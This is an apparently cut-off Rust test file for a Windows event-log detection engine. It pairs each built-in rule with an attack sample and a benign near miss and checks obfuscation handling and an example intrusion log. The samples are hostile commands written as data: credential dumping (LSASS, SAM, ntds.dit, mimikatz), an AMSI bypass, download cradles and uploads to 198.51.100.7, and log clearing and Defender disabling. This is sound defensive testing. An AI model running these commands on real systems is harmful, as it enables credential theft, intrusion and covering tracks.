//! Every built-in rule fires on a positive and stays quiet on a near miss; the
//! bundled example's intrusion is found and its benign day is not.

use std::collections::BTreeSet;
use std::sync::Arc;

use base64::Engine;
use landwatch::{Event, Level, Rules, RulesBuilder, Scanner};

const S32: &str = r"C:\Windows\System32\";

type Fields = Vec<(String, String)>;

fn rules() -> Arc<Rules> {
    Arc::new(RulesBuilder::new().add_builtin().build().unwrap_or_else(|e| panic!("{e}")))
}

fn proc(image: &str, cmd: &str) -> Fields {
    let image = if image.contains('\\') { image.to_string() } else { format!("{S32}{image}") };
    vec![
        ("EventID".into(), "1".into()),
        ("Image".into(), image),
        ("CommandLine".into(), cmd.into()),
    ]
}

fn child(image: &str, cmd: &str, parent: &str) -> Fields {
    let mut f = proc(image, cmd);
    f.push(("ParentImage".into(), parent.into()));
    f
}

fn logon(pairs: &[(&str, &str)]) -> Fields {
    let mut f: Fields = vec![("EventID".into(), "4624".into())];
    f.extend(pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())));
    f
}

fn explicit(process: &str, target: &str) -> Fields {
    vec![
        ("EventID".into(), "4648".into()),
        ("ProcessName".into(), process.into()),
        ("TargetUserName".into(), target.into()),
        ("TargetServerName".into(), "CD-DC01".into()),
    ]
}

fn enc(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn fired(scanner: &mut Scanner, ev: &Fields) -> BTreeSet<String> {
    scanner
        .scan(&Event::from_fields(ev))
        .unwrap()
        .into_iter()
        .map(|d| d.rule)
        .collect()
}

/// (rule, an event it must fire on, a near miss it must not fire on)
fn cases() -> Vec<(&'static str, Fields, Fields)> {
    let ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    vec![
        ("cred.reg_save_hive", proc("reg.exe", r"reg save HKLM\SAM C:\temp\sam.save"), proc("reg.exe", r"reg query HKLM\SYSTEM\CurrentControlSet\Services")),
        ("cred.ntdsutil_ifm", proc("ntdsutil.exe", r#"ntdsutil "ac i ntds" "ifm" "create full c:\x" q q"#), proc("ntdsutil.exe", r#"ntdsutil "metadata cleanup" q"#)),
        ("cred.ad_database_snapshot", proc(r"C:\Program Files\Tools\dsdbutil.exe", r#"dsdbutil.exe "activate instance ntds" "snapshot" "create" "quit" "quit""#), proc("ntdsutil.exe", r#"ntdsutil "ac i ntds" "snapshot" "list all" q q"#)),
        ("cred.esentutl_vss_copy", proc("esentutl.exe", r"esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\temp\s"), proc("esentutl.exe", r"esentutl.exe /y C:\data\app.edb /d D:\backup\app.edb")),
        ("cred.memory_dump_lolbin", proc("rdrleakdiag.exe", r"rdrleakdiag.exe /p 652 /o C:\temp /fullmemdmp /wait 1"), proc("rdrleakdiag.exe", "rdrleakdiag.exe /?")),
        ("cred.gpp_cpassword_search", proc("findstr.exe", r"findstr /S /I cpassword \\contoso.local\sysvol\contoso.local\Policies\*.xml"), proc("findstr.exe", r"findstr /S /I password C:\scripts\*.ps1")),
        ("cred.vssadmin_create_shadow", proc("vssadmin.exe", "vssadmin create shadow /for=C:"), proc("vssadmin.exe", "vssadmin list shadows")),
        ("cred.wmic_shadowcopy_create", proc(r"C:\Windows\System32\wbem\WMIC.exe", "wmic shadowcopy call create Volume='C:\\'"), proc(r"C:\Windows\System32\wbem\WMIC.exe", "wmic shadowcopy list brief")),
        ("cred.copy_from_shadow_copy", proc("cmd.exe", r"cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\ntds.dit C:\temp\n.dit"), proc("cmd.exe", r"cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Users\a\report.docx C:\temp\")),
        ("cred.ntds_dit_access", proc("esentutl.exe", r"esentutl /y /vss C:\Windows\NTDS\ntds.dit /d C:\temp\n.dit"), proc("esentutl.exe", r"esentutl /y /vss C:\Users\a\AppData\Local\Microsoft\Windows\WebCache\WebCacheV01.dat /d C:\temp\w.dat")),
        ("cred.comsvcs_minidump", proc("rundll32.exe", r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full"), proc("rundll32.exe", r"rundll32.exe C:\windows\System32\shell32.dll,Control_RunDLL")),
        ("cred.procdump_lsass", proc(r"C:\Tools\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe C:\\temp\\l.dmp"), proc(r"C:\Tools\procdump64.exe", "procdump64.exe -ma w3wp.exe C:\\temp\\w.dmp")),
        ("cred.mimikatz_commands", proc(r"C:\Users\Public\m.exe", r#"m.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#), proc(r"C:\Users\Public\m.exe", "m.exe --help")),
        ("cred.lsass_dump_tooling_decoded", proc(ps, &format!("powershell -enc {}", enc("Out-Minidump -Process (Get-Process lsass) -DumpFilePath C:\\temp"))), proc(ps, &format!("powershell -enc {}", enc("Get-Process lsass | Select-Object Id")))),
        ("cred.psexec_with_password", proc(r"C:\Tools\PsExec.exe", r"psexec \\CD-DC01 -u CONTOSO\adm -p Pa55 cmd"), proc(r"C:\Tools\PsExec.exe", r"psexec \\CD-DC01 -s cmd")),
        ("cred.net_use_with_password", proc("net.exe", r"net use \\CD-FS01\c$ /user:CONTOSO\adm Pa55"), proc("net.exe", r"net use S: \\CD-FS01\Shared /persistent:yes")),
        ("cred.wmic_with_password", proc(r"C:\Windows\System32\wbem\WMIC.exe", r"wmic /node:10.20.1.5 /user:CONTOSO\adm /password:Pa55 os get caption"), proc(r"C:\Windows\System32\wbem\WMIC.exe", "wmic /node:10.20.1.5 os get caption")),
        ("cred.schtasks_remote_with_password", proc("schtasks.exe", r"schtasks /create /s CD-DC01 /u CONTOSO\adm /p Pa55 /tn upd /tr c:\x.exe /sc once /st 00:00"), proc("schtasks.exe", "schtasks /query /s CD-DC01 /fo list")),
        ("cred.runas_netonly", proc("runas.exe", r"runas /netonly /user:CONTOSO\adm cmd.exe"), proc("runas.exe", r"runas /user:CONTOSO\adm cmd.exe")),
        ("cred.cmdkey_add_with_password", proc("cmdkey.exe", r"cmdkey /add:CD-DC01 /user:CONTOSO\adm /pass:Pa55"), proc("cmdkey.exe", "cmdkey /list")),
        ("cred.explicit_logon_by_lotl_tool", explicit(r"C:\Windows\System32\net.exe", "nw-admin"), explicit(r"C:\Windows\System32\lsass.exe", "nw-admin")),
        ("cred.explicit_logon_from_staging_dir", explicit(r"C:\ProgramData\ps.exe", "nw-admin"), explicit(r"C:\Program Files\Northwind RMM\rmmagent.exe", "svc-rmm")),
        ("cred.ntlm_network_logon_no_key", logon(&[("LogonType", "3"), ("AuthenticationPackageName", "NTLM"), ("KeyLength", "0"), ("TargetUserName", "nw-admin")]), logon(&[("LogonType", "3"), ("AuthenticationPackageName", "NTLM"), ("KeyLength", "0"), ("TargetUserName", "ANONYMOUS LOGON")])),
        ("cred.new_credentials_logon", logon(&[("LogonType", "9"), ("LogonProcessName", "seclogo"), ("TargetUserName", "adm")]), logon(&[("LogonType", "2"), ("LogonProcessName", "User32"), ("TargetUserName", "adm")])),
        ("exec.wmic_remote_process_create", proc(r"C:\Windows\System32\wbem\WMIC.exe", r#"wmic /node:CD-DC01 process call create "cmd /c whoami""#), proc(r"C:\Windows\System32\wbem\WMIC.exe", "wmic /node:CD-DC01 process list brief")),
        ("exec.psexec_remote", proc(r"C:\Tools\PsExec64.exe", r"PsExec64.exe \\CD-WS014 ipconfig"), proc(r"C:\Tools\PsExec64.exe", "PsExec64.exe -i -s cmd")),
        ("exec.psexesvc_child", child("cmd.exe", "cmd.exe", r"C:\Windows\PSEXESVC.exe"), child("cmd.exe", "cmd.exe", r"C:\Windows\explorer.exe")),
        ("exec.winrs_remote", proc("winrs.exe", "winrs -r:CD-DC01 whoami"), proc("winrs.exe", "winrs /?")),
        ("exec.powershell_remoting", proc(ps, "powershell Invoke-Command -ComputerName CD-DC01 -ScriptBlock { whoami }"), proc(ps, "powershell Invoke-Command -ScriptBlock { whoami }")),
        ("exec.sc_remote_service", proc("sc.exe", r"sc \\CD-DC01 create upd binPath= C:\x.exe"), proc("sc.exe", "sc create upd binPath= C:\\x.exe")),
        ("exec.sc_remote_start", proc("sc.exe", r"sc \\CD-DC01 start upd"), proc("sc.exe", r"sc \\CD-DC01 query upd")),
        ("exec.schtasks_remote_create", proc("schtasks.exe", r"schtasks /create /s CD-DC01 /tn upd /tr C:\x.exe /sc once /st 00:00"), proc("schtasks.exe", r"schtasks /create /tn upd /tr C:\x.exe /sc daily")),
        ("exec.wmiprvse_spawns_shell", child("cmd.exe", "cmd.exe /c whoami", r"C:\Windows\System32\wbem\WmiPrvSE.exe"), child("WerFault.exe", "WerFault.exe -u", r"C:\Windows\System32\wbem\WmiPrvSE.exe")),
        ("exec.admin_share_output_redirect", proc("cmd.exe", r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1699 2>&1"), proc("cmd.exe", r"cmd.exe /c dir \\127.0.0.1\ADMIN$")),
        ("lotl.certutil_download", proc("certutil.exe", "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe"), proc("certutil.exe", r"certutil -hashfile C:\a.msi SHA256")),
        ("lotl.certutil_decode", proc("certutil.exe", r"certutil -decode C:\temp\a.txt C:\temp\a.exe"), proc("certutil.exe", r"certutil -encode C:\temp\a.exe C:\temp\a.txt")),
        ("lotl.bitsadmin_transfer", proc("bitsadmin.exe", r"bitsadmin /transfer job /download /priority high http://198.51.100.7/a.exe C:\temp\a.exe"), proc("bitsadmin.exe", "bitsadmin /list /allusers")),
        ("lotl.bitsadmin_notify_cmdline", proc("bitsadmin.exe", r"bitsadmin /SetNotifyCmdLine job C:\ProgramData\a.exe NULL"), proc("bitsadmin.exe", "bitsadmin /SetNotifyFlags job 1")),
        ("lotl.mshta_remote_or_script", proc("mshta.exe", "mshta http://198.51.100.7/a.hta"), proc("mshta.exe", r"mshta C:\Program Files\Vendor\setup.hta")),
        ("lotl.regsvr32_scrobj", proc("regsvr32.exe", "regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll"), proc("regsvr32.exe", r"regsvr32 /s C:\Program Files\Vendor\ctl.dll")),
        ("lotl.rundll32_script", proc("rundll32.exe", r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)"#), proc("rundll32.exe", "rundll32.exe printui.dll,PrintUIEntry /il")),
        ("lotl.msiexec_remote_package", proc("msiexec.exe", "msiexec /q /i http://198.51.100.7/a.msi"), proc("msiexec.exe", r"msiexec /i C:\temp\agent.msi /qn")),
        ("lotl.powershell_download_cradle", proc(ps, "powershell IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"), proc(ps, "powershell Get-ChildItem C:\\Users")),
        ("lotl.scriptlet_moniker_url", proc("mshta.exe", r#"mshta.exe javascript:a=GetObject("script:http://198.51.100.7/a.sct").Exec();close();"#), proc("rundll32.exe", r"rundll32.exe C:\Windows\System32\scrobj.dll,DllRegisterServer")),
        ("lotl.mpcmdrun_download", proc(r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25100.9-0\MpCmdRun.exe", r"MpCmdRun.exe -DownloadFile -url http://198.51.100.7/a.exe -path C:\Users\Public\a.exe"), proc(r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25100.9-0\MpCmdRun.exe", "MpCmdRun.exe -SignatureUpdate")),
        ("lotl.desktopimgdownldr_download", proc("desktopimgdownldr.exe", "desktopimgdownldr.exe /lockscreenurl:https://198.51.100.7/a.exe /eventName:desktopimgdownldr"), proc("desktopimgdownldr.exe", r"desktopimgdownldr.exe /lockscreenurl:C:\Windows\Web\Screen\img100.jpg /eventName:x")),
        ("lotl.certreq_post", proc("certreq.exe", r"certreq -Post -config https://198.51.100.7/ C:\Windows\Temp\upd.rar out.txt"), proc("certreq.exe", r#"certreq -submit -config "CD-DC01\Contoso-CA" req.csr cert.cer"#)),
        ("ps.encoded_command", proc(ps, &format!("powershell -nop -EncodedCommand {}", enc("Get-Date"))), proc(ps, "powershell -nop -Command Get-Date")),
        ("ps.encoded_command_renamed", proc(r"C:\ProgramData\svc.exe", &format!("svc.exe -nop -w hidden -enc {}", enc("Get-Date"))), proc(ps, &format!("powershell -nop -w hidden -enc {}", enc("Get-Date")))),
        ("ps.hidden_bypass_noprofile", proc(ps, r"powershell -NoP -W Hidden -Exec Bypass -File C:\temp\a.ps1"), proc(ps, r"powershell -NoProfile -ExecutionPolicy Bypass -File C:\scripts\inventory.ps1")),
        ("ps.iex_in_decoded", proc(ps, &format!("powershell -e {}", enc("IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('ZWNobyAx'))))"))), proc(ps, &format!("powershell -e {}", enc("Write-Output ([Convert]::FromBase64String('ZWNobyAx'))")))),
        ("ps.amsi_bypass", proc(ps, "powershell [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"), proc(ps, "powershell Get-MpComputerStatus")),
        ("disc.domain_admins_group", proc("net.exe", r#"net group "domain admins" /domain"#), proc("net.exe", r#"net group "Accounting" /domain"#)),
        ("disc.local_admins_group", proc("net.exe", "net localgroup administrators"), proc("net.exe", r"net localgroup administrators CONTOSO\jsmith /add")),
        ("disc.nltest_domain_trusts", proc("nltest.exe", "nltest /domain_trusts /all_trusts"), proc("nltest.exe", "nltest /sc_query:contoso.local")),
        ("disc.whoami_all_or_priv", proc("whoami.exe", "whoami /all"), proc("whoami.exe", "whoami")),
        ("disc.quser_sessions", proc("quser.exe", "quser /server:CD-DC01"), proc("query.exe", "query session")),
        ("disc.systeminfo", proc("systeminfo.exe", "systeminfo /fo csv"), proc("hostname.exe", "hostname")),
        ("disc.dsquery_or_adfind", proc(r"C:\Users\Public\AdFind.exe", r#"AdFind.exe -f "(objectcategory=computer)" -csv name"#), proc(r"C:\Users\Public\AdFind.exe", "AdFind.exe -h")),
        ("disc.net_view_all", proc("net.exe", "net view /all /domain"), proc("net.exe", r"net view \\CD-FS01")),
        ("exfil.rar_with_password", proc(r"C:\ProgramData\rar.exe", r"rar.exe a -hpS3cret -m5 C:\temp\o.rar C:\Users\a\Documents"), proc(r"C:\Program Files\WinRAR\rar.exe", r"rar.exe x C:\temp\vendor.rar C:\temp\out")),
        ("exfil.7zip_with_password", proc(r"C:\Program Files\7-Zip\7z.exe", r"7z.exe a -pS3cret C:\temp\o.7z C:\Users\a\Documents"), proc(r"C:\Program Files\7-Zip\7z.exe", r"7z.exe a C:\temp\o.7z C:\Users\a\Documents")),
        ("exfil.copy_to_admin_share", proc("Robocopy.exe", r"robocopy C:\temp \\NW-JUMP01\c$\PerfLogs o.rar"), proc("Robocopy.exe", r"robocopy C:\temp D:\backup /E")),
        ("exfil.makecab_staging", proc("makecab.exe", r"makecab C:\temp\passwords.txt C:\temp\p.cab"), proc("makecab.exe", r"makecab C:\build\driver.inf C:\build\driver.cab")),
        ("evade.wevtutil_clear_log", proc("wevtutil.exe", "wevtutil cl Security"), proc("wevtutil.exe", "wevtutil qe Security /c:5")),
        ("evade.powershell_clear_eventlog", proc(ps, "powershell Clear-EventLog -LogName Security"), proc(ps, "powershell Get-EventLog -LogName Security -Newest 5")),
        ("evade.defender_disabled", proc(ps, "powershell Set-MpPreference -DisableRealtimeMonitoring $true"), proc(ps, "powershell Set-MpPreference -SignatureUpdateInterval 4")),
        ("evade.usn_journal_deleted", proc("fsutil.exe", "fsutil usn deletejournal /D C:"), proc("fsutil.exe", "fsutil usn queryjournal C:")),
        ("evade.shadow_copies_deleted", proc("vssadmin.exe", "vssadmin delete shadows /all /quiet"), proc("vssadmin.exe", "vssadmin list shadows")),
        ("evade.bcdedit_recovery_off", proc("bcdedit.exe", "bcdedit /set {default} recoveryenabled No"), proc("bcdedit.exe", "bcdedit /enum")),
        ("evade.firewall_disabled", proc("netsh.exe", "netsh advfirewall set allprofiles state off"), proc("netsh.exe", "netsh advfirewall show allprofiles")),
        ("evade.auditpol_cleared", proc("auditpol.exe", "auditpol /clear /y"), proc("auditpol.exe", r#"auditpol /set /subcategory:"Filtering Platform Connection" /success:disable /failure:disable"#)),
        ("evade.sysmon_driver_unloaded", proc("fltMC.exe", "fltMC.exe unload SysmonDrv"), proc("fltMC.exe", "fltMC.exe filters")),
    ]
}

#[test]
fn every_builtin_rule_fires_on_its_positive_and_not_on_its_near_miss() {
    let rules = rules();
    let cases = cases();
    let covered: BTreeSet<&str> = cases.iter().map(|c| c.0).collect();
    // Correlations are tested on a stream of their own (credential_misuse.rs).
    let missing: Vec<&str> = rules
        .iter()
        .filter(|r| r.kind == landwatch::RuleKind::Stateless)
        .map(|r| r.id.as_str())
        .filter(|id| !covered.contains(id))
        .collect();
    assert!(missing.is_empty(), "rules without a test case: {missing:?}");
    let mut scanner = Scanner::new(rules.clone());
    for (id, pos, neg) in &cases {
        assert!(rules.get(id).is_some(), "test names unknown rule {id}");
        let got = fired(&mut scanner, pos);
        assert!(got.contains(*id), "{id} did not fire on {pos:?}; fired {got:?}");
        let got = fired(&mut scanner, neg);
        assert!(!got.contains(*id), "{id} fired on its near miss {neg:?}");
    }
}

#[test]
fn the_pack_is_large_tagged_and_referenced() {
    let rules = rules();
    assert!(rules.len() >= 45, "{} rules", rules.len());
    let tactics = [
        "attack.credential_access", "attack.lateral_movement", "attack.execution", "attack.defense_evasion",
        "attack.discovery", "attack.collection", "attack.command_and_control", "attack.impact",
        "attack.persistence", "attack.exfiltration",
    ];
    let mut per_file: std::collections::BTreeMap<&str, usize> = Default::default();
    let mut ids = BTreeSet::new();
    for r in rules.iter() {
        assert!(ids.insert(r.id.as_str()), "duplicate id {}", r.id);
        assert!(r.id.contains('.'), "{}: ids are theme.name", r.id);
        assert!(r.tags.iter().any(|t| t.starts_with("attack.t")), "{} has no ATT&CK technique tag", r.id);
        assert!(r.tags.iter().any(|t| tactics.contains(&t.as_str())), "{} has no tactic tag", r.id);
        assert!(r.references.iter().any(|u| u.starts_with("https://")), "{} has no reference URL", r.id);
        assert!(r.description.as_deref().is_some_and(|d| d.len() > 20), "{} has no description", r.id);
        assert!(!r.title.is_empty(), "{} has no title", r.id);
        assert!(Level::ALL.contains(&r.level));
        *per_file.entry(r.origin.file.as_str()).or_default() += 1;
    }
    // Every file of the pack holds rules, and every rule comes from one.
    assert_eq!(per_file.len(), landwatch::builtin::SOURCES.len(), "{per_file:?}");
    eprintln!("{} built-in rules: {per_file:?}", rules.len());
}

#[test]
fn obfuscated_spellings_are_caught() {
    let rules = rules();
    let mut s = Scanner::new(rules);
    for cmd in [
        "c^e^r^t^u^t^i^l -urlcache -f http://198.51.100.7/a a",
        "\"cert\"util /urlcache /f http://198.51.100.7/a a",
        "certutil \u{2013}urlcache \u{2013}f http://198.51.100.7/a a",
        "certutil \u{2014}urlcache \u{2015}f http://198.51.100.7/a a",
        "cert\u{200B}util  -URLCACHE   -f http://198.51.100.7/a a",
        "certutil \"-url\"cache -split -f \"http://198.51.100.7/a\" a",
    ] {
        assert!(fired(&mut s, &proc("certutil.exe", cmd)).contains("lotl.certutil_download"), "{cmd}");
    }
    let must = |s: &mut Scanner, ev: Fields, id: &str| {
        let got = fired(s, &ev);
        assert!(got.contains(id), "{id} did not fire on {ev:?}; fired {got:?}");
    };
    must(&mut s, proc("reg.exe", r"r^eg s^ave H^KLM\S^AM C:\t\s"), "cred.reg_save_hive");
    must(&mut s, proc("reg.exe", r#"reg.exe "save" "HKLM\SECURITY" C:\t\s"#), "cred.reg_save_hive");
    must(&mut s, proc("net.exe", r"%SystemRoot%\system32\net.exe use \\h\c$ –user:CORP\a pw"), "cred.net_use_with_password");
    must(&mut s, proc("net.exe", r#"n^et u^se \\h\c$ "/us"er:CORP\a pw"#), "cred.net_use_with_password");
    // Whole quoted words keep their quotes in the normal form (and are not options).
    must(&mut s, proc("net.exe", r#"net "use" \\h\c$ pw "/user:CORP\a""#), "cred.net_use_with_password");
    must(&mut s, proc(r"C:\Tools\PsExec.exe", r#"psexec \\h "-u" CORP\a "-p" pw cmd"#), "cred.psexec_with_password");
    must(&mut s, proc("vssadmin.exe", r#"vssadmin "create" "shadow" /for=C:"#), "cred.vssadmin_create_shadow");
    must(&mut s, proc(r"C:\Windows\System32\wbem\WMIC.exe", r#"wmic /NODE:"10.20.1.5" p^rocess call c^reate "cmd /c x""#), "exec.wmic_remote_process_create");
    must(&mut s, proc("vssadmin.exe", "vssadmin.exe create   SHADOW /for=C:"), "cred.vssadmin_create_shadow");
    must(&mut s, proc("wevtutil.exe", "wevtutil.exe \"cl\" Security"), "evade.wevtutil_clear_log");
    // -EncodedCommand: every abbreviation, / and dash spellings, carets, quotes.
    let ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let payload = enc("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')");
    for flag in ["-e", "-ec", "-en", "-enc", "-enco", "-EncodedCommand", "-encodedC", "/enc", "/e", "\u{2013}enc", "\u{2014}e", "-^e^n^c", "\"-enc\"", "-EnC"] {
        let ev = proc(ps, &format!("powershell.exe -nop -w hidden {flag} {payload}"));
        for id in ["ps.encoded_command", "ps.iex_in_decoded", "lotl.powershell_download_cradle"] {
            must(&mut s, ev.clone(), id);
        }
    }
    // Not an abbreviation of -EncodedCommand.
    assert!(!fired(&mut s, &proc(ps, &format!("powershell.exe -ea {payload}"))).contains("ps.encoded_command"));
}

#[test]
fn routine_admin_work_fires_nothing_high() {
    let rules = rules();
    let mut s = Scanner::new(rules.clone());
    let ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let wmic = r"C:\Windows\System32\wbem\WMIC.exe";
    let benign = [
        proc("net.exe", "net user jsmith /domain"),
        proc("net.exe", "net user"),
        proc("ipconfig.exe", "ipconfig /all"),
        proc("sc.exe", "sc query wuauserv"),
        proc("sc.exe", r"sc \\CD-WS017 query Spooler"),
        proc("sc.exe", r"sc \\CD-WS017 config wuauserv start= auto"),
        proc("reg.exe", r#"reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v CurrentBuildNumber"#),
        proc("reg.exe", r"reg export HKCU\Software\Vendor C:\temp\vendor.reg /y"),
        proc(ps, "powershell.exe -NoProfile -Command Get-Service -Name Spooler"),
        proc(ps, "powershell.exe -NoProfile -Command \"Get-WinEvent -LogName System -MaxEvents 20\""),
        proc("certutil.exe", r"certutil -hashfile C:\a.msi SHA256"),
        proc("certutil.exe", "certutil -store my"),
        proc("Robocopy.exe", r"robocopy C:\a D:\b /E"),
        proc("schtasks.exe", "schtasks /query /fo LIST /v"),
        proc("schtasks.exe", r#"schtasks /run /tn "Northwind\DiskCleanup""#),
        proc(wmic, "wmic os get caption"),
        proc(wmic, "wmic /node:CD-WS014 os get caption,version"),
        proc("systeminfo.exe", "systeminfo /fo csv"),
        proc("gpupdate.exe", "gpupdate /force"),
        proc("net.exe", r"net use S: \\CD-FS01\Shared /persistent:yes"),
        proc("net.exe", "net use"),
        proc("net.exe", r"net use \\CD-FS01\Shared * /user:CONTOSO\jsmith"),
        proc("whoami.exe", "whoami"),
        proc("whoami.exe", "whoami /upn"),
        proc("tasklist.exe", "tasklist /v"),
        proc("vssadmin.exe", "vssadmin list shadows"),
        proc("vssadmin.exe", "vssadmin list writers"),
        proc("wevtutil.exe", "wevtutil qe System /c:20 /rd:true /f:text"),
        proc("msiexec.exe", r"msiexec /i C:\temp\agent.msi /qn"),
        proc("msiexec.exe", r#"msiexec.exe /i "C:\ProgramData\Northwind\agent-update.msi" /qn SERVERURL=https://rmm.northwind-it.example/ /norestart"#),
        proc("rundll32.exe", "rundll32.exe printui.dll,PrintUIEntry /il"),
        proc("cmd.exe", r#"cmd.exe /c "C:\ProgramData\RMM\scripts\disk_check.cmd""#),
        proc("mstsc.exe", "mstsc /v:CD-FS01"),
        proc(ps, "powershell -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1"),
        proc("net.exe", "net localgroup \"Remote Desktop Users\""),
        proc("nltest.exe", "nltest /sc_query:contoso.local"),
        proc("auditpol.exe", "auditpol /get /category:*"),
        proc("auditpol.exe", r#"auditpol /set /subcategory:"Filtering Platform Connection" /success:disable /failure:disable"#),
        proc("netsh.exe", "netsh advfirewall show allprofiles"),
        proc("fsutil.exe", "fsutil volume diskfree C:"),
        proc("bitsadmin.exe", "bitsadmin /list /allusers"),
        proc("esentutl.exe", r"esentutl /mh C:\Windows\NTDS\edb.chk"),
        proc("makecab.exe", r"makecab C:\build\driver.inf C:\build\driver.cab"),
        proc(r"C:\Program Files\7-Zip\7z.exe", r"7z.exe a C:\backup\logs.7z C:\logs"),
        child("cmd.exe", r#"cmd.exe /c "C:\ProgramData\Northwind\check.cmd""#, r"C:\Program Files\Northwind RMM\rmmagent.exe"),
    ];
    assert!(benign.len() >= 20);
    for ev in &benign {
        for d in s.scan(&Event::from_fields(ev)).unwrap() {
            assert!(d.level < Level::High, "{} ({}) fired on benign {ev:?}", d.rule, d.level);
        }
    }
}

#[test]
fn the_example_intrusion_is_found_and_the_benign_day_is_not() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../examples/msp-intrusion.jsonl");
    let text = std::fs::read_to_string(path).expect("examples/msp-intrusion.jsonl");
    let mut s = Scanner::new(rules());
    // (a substring of the JSON line, the rule that must fire on it); every
    // step of the intrusion in examples/README.md. Backslashes are doubled by
    // JSON, hence the \\\\ below.
    let expected: &[(&str, &str)] = &[
        ("\"LogonType\": 3, \"IpAddress\": \"10.50.7.33\"", "cred.ntlm_network_logon_no_key"),
        ("whoami /all", "disc.whoami_all_or_priv"),
        ("quser /server:CD-DC01", "disc.quser_sessions"),
        ("domain admins", "disc.domain_admins_group"),
        ("nltest /dclist", "disc.nltest_domain_trusts"),
        ("net view /all", "disc.net_view_all"),
        ("c^e^r^t^u^t^i^l", "lotl.certutil_download"),
        ("-nop -w hidden -enc", "ps.iex_in_decoded"),
        ("-nop -w hidden -enc", "lotl.powershell_download_cradle"),
        ("-p Winter2026!", "cred.psexec_with_password"),
        ("\"ProcessName\": \"C:\\\\ProgramData\\\\ps.exe\"", "cred.explicit_logon_from_staging_dir"),
        ("vssadmin create shadow", "cred.vssadmin_create_shadow"),
        ("HarddiskVolumeShadowCopy3", "cred.copy_from_shadow_copy"),
        ("reg save hklm", "cred.reg_save_hive"),
        ("create full", "cred.ntdsutil_ifm"),
        ("comsvcs.dll, MiniDump", "cred.comsvcs_minidump"),
        ("PSEXESVC.exe", "exec.psexesvc_child"),
        ("a -hpN0rthw1nd!", "exfil.rar_with_password"),
        ("/user:CONTOSO\\\\nw-admin Winter2026!", "cred.net_use_with_password"),
        ("\"ProcessName\": \"C:\\\\Windows\\\\System32\\\\net.exe\"", "cred.explicit_logon_by_lotl_tool"),
        ("\\\\\\\\NW-JUMP01\\\\c$\\\\PerfLogs", "exfil.copy_to_admin_share"),
        ("wevtutil cl Security", "evade.wevtutil_clear_log"),
        ("\\\"wev\\\"tutil", "evade.wevtutil_clear_log"),
        ("DisableRealtimeMonitoring", "evade.defender_disabled"),
    ];
    // Intrusion lines that no single-event rule can tell apart, with the reason.
    let undetectable: &[(&str, &str)] = &[(
        "\"LogonType\": 10",
        "an RDP logon with Kerberos: only knowing 10.50/16 is the provider's range, or correlating with the NTLM logon before it, tells it apart",
    )];
    let mut found = vec![false; expected.len()];
    let (mut intrusion, mut benign) = (0, 0);
    for (n, line) in text.lines().enumerate() {
        let detections = s.scan_json(line.as_bytes()).unwrap_or_else(|e| panic!("line {}: {e}", n + 1));
        let ids: BTreeSet<String> = detections.iter().map(|d| d.rule.clone()).collect();
        for (k, (needle, rule)) in expected.iter().enumerate() {
            if line.contains(needle) && ids.contains(*rule) {
                found[k] = true;
            }
        }
        // The stolen account appears only in the intrusion.
        if line.contains("nw-admin") {
            intrusion += 1;
            if !undetectable.iter().any(|(needle, _)| line.contains(needle)) {
                assert!(!ids.is_empty(), "intrusion line {} fired nothing: {line}", n + 1);
            }
        } else {
            benign += 1;
            assert!(
                detections.iter().all(|d| d.level < Level::Medium),
                "benign line {} fired {:?}: {line}",
                n + 1,
                detections.iter().map(|d| (&d.rule, d.level)).collect::<Vec<_>>()
            );
        }
    }
    let missed: Vec<_> = expected.iter().zip(&found).filter(|(_, f)| !**f).map(|(e, _)| e).collect();
    assert!(missed.is_empty(), "intrusion steps not detected: {missed:?}");
    assert!(text.lines().count() >= 300);
    assert!(intrusion >= 20 && benign >= 280, "{intrusion} intrusion, {benign} benign lines");
}

/// Fills LOLBAS placeholders such as {REMOTEURL:.sct} or {PATH_ABSOLUTE:.exe}
/// with realistic values.
fn fill_lolbas(c: &str) -> String {
    let mut out = String::new();
    let mut rest = c;
    while let Some(open) = rest.find('{') {
        let Some(close) = rest[open..].find('}') else { break };
        out.push_str(&rest[..open]);
        let name = &rest[open + 1..open + close];
        let ext = name.split_once(':').map_or(".exe", |(_, e)| e);
        if name.starts_with("REMOTEURL") {
            out.push_str(&format!("http://198.51.100.7/payload{ext}"));
        } else if name.starts_with("PATH_SMB") {
            out.push_str(&format!(r"\\198.51.100.7\share\payload{ext}"));
        } else if name.starts_with("PATH") {
            out.push_str(&format!(r"C:\Users\Public\payload{ext}"));
        } else {
            out.push_str("652");
        }
        rest = &rest[open + close + 1..];
    }
    out.push_str(rest);
    out
}

/// (binary name, category, filled command) of every example command of one
/// LOLBAS YAML file; only `Name:`, `Command:` and `Category:` lines are read.
fn lolbas_commands(text: &str) -> Vec<(String, String, String)> {
    let mut name = String::new();
    let mut out: Vec<(String, String, String)> = Vec::new();
    for line in text.lines() {
        let l = line.trim().trim_start_matches("- ");
        if let Some(v) = l.strip_prefix("Name:") {
